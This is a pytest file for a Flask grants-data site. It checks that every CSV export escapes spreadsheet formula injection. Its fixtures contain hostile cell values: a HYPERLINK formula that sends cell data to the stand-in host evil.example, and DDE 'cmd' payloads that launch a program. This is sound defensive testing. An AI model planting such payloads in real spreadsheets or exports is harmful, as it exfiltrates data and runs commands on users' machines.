"""Every CSV the site serves is safe to open in a spreadsheet: a grant or researcher whose text
starts like a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return) comes out with a leading
apostrophe, and amounts come out as numbers (negative ones: tests/pipeline/). Through the real
app (Flask's test client) over a small warehouse of hostile files of its own."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from flask.testing import FlaskClient

from data_pipeline.config import load_config
from data_pipeline.load import load_file
from warehouse.db import make_engine, upgrade_schema
from warehouse.spreadsheet_cells import FORMULA_STARTS, safe_cell

TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
DESCRIPTION = "@SUM(1+1)*cmd|' /C calc'!A0"
RECIPIENT = "+cmd|' /C calc'!A0"
TABBED = "\t=1+1"
RESEARCHER = "-2+3+cmd|' /C calc'!A0"
COUNCIL = "GB-LAE-XDB"  # a home organisation in observatory.toml

GRANTS = [
    [
        *("Identifier", "Title", "Description", "Currency", "Amount Awarded", "Award Date"),
        *("Recipient Org:Identifier", "Recipient Org:Name"),
        *("Funding Org:Identifier", "Funding Org:Name"),
    ],
    [
        *("360G-hostile-1", TITLE, DESCRIPTION, "GBP", "150.25", "2024-05-01"),
        *("GB-CHC-1", RECIPIENT, COUNCIL, "Demo Council"),
    ],
    [
        *("360G-hostile-2", TABBED, "\rcarriage", "GBP", "2000", "2024-06-01"),
        *("GB-CHC-2", "Plain Group", COUNCIL, "Demo Council"),
    ],
]
RESEARCHERS = [
    ["researcher_id", "display_name", "skills", "availability", "consent"],
    ["RES-1", RESEARCHER, "=interviewing", "available", "public"],
]


def _write(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:///{folder / 'warehouse.db'}"
    engine = make_engine(url)
    upgrade_schema(engine)
    for path in (
        _write(folder / "grants.csv", GRANTS),
        _write(folder / "researchers.csv", RESEARCHERS),
    ):
        result = load_file(engine, path, load_config())
        assert result.status == "loaded", result.problems
    engine.dispose()
    yield url


@pytest.fixture
def client(hostile: str, monkeypatch: pytest.MonkeyPatch) -> FlaskClient:
    monkeypatch.setenv("DATABASE_URL", hostile)
    from app import server

    return server.test_client()


def _cells(test_client: FlaskClient, path: str) -> list[list[str]]:
    answer = test_client.get(path)
    assert answer.status_code == 200, (path, answer.text[:300])
    assert answer.mimetype == "text/csv", path
    return list(csv.reader(io.StringIO(answer.get_data(as_text=True))))


def _runnable(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula."""
    return [cell for row in rows for cell in row if safe_cell(cell) != cell]


def _column(rows: list[list[str]], title: str) -> list[str]:
    index = rows[0].index(title)
    return [row[index] for row in rows[1:]]


@pytest.mark.parametrize("path", ["/api/v1/grants.csv", "/download/grants.csv"])
def test_grant_csvs_escape_formulas_and_keep_amounts_as_numbers(
    client: FlaskClient, path: str
) -> None:
    rows = _cells(client, path)
    assert _runnable(rows) == []
    text = {cell for row in rows for cell in row}
    for hostile in (TITLE, RECIPIENT, TABBED.strip()):  # the loader strips the tab
        assert "'" + hostile in text, hostile
    amounts = next(title for title in rows[0] if title.startswith("Amount") or "amount" in title)
    assert sorted(float(value) for value in _column(rows, amounts)) in (
        [150.25, 2000.0],
        [15025.0, 200000.0],  # the API's CSV gives pence
    )


def test_every_dataset_download_and_api_csv_is_safe(client: FlaskClient) -> None:
    from warehouse.queries.quality import DATASET_NAMES
    from warehouse.queries.records import DATASETS

    paths = [f"/download/data/{name}.csv" for name in DATASET_NAMES]
    paths += [f"/api/v1/{dataset.name}.csv" for dataset in DATASETS]
    escaped = set()
    for path in paths:
        rows = _cells(client, path)
        assert _runnable(rows) == [], path
        escaped |= {cell for row in rows for cell in row if cell.startswith("'")}
    assert {"'" + TITLE, "'" + DESCRIPTION, "'" + RECIPIENT, "'" + RESEARCHER} <= escaped


def test_every_chart_csv_is_safe(client: FlaskClient) -> None:
    from figures.charts import REGISTRY

    for chart_id in REGISTRY:
        assert _runnable(_cells(client, f"/api/v1/charts/{chart_id}.csv")) == [], chart_id


def test_the_researcher_directory_download_is_safe(client: FlaskClient) -> None:
    from callbacks.researchers import download_directory

    sent = download_directory(1, {})
    rows = list(csv.reader(io.StringIO(sent["content"])))
    assert _runnable(rows) == []
    assert "'" + RESEARCHER in {cell for row in rows for cell in row}


def test_formula_starts_are_the_owasp_list() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
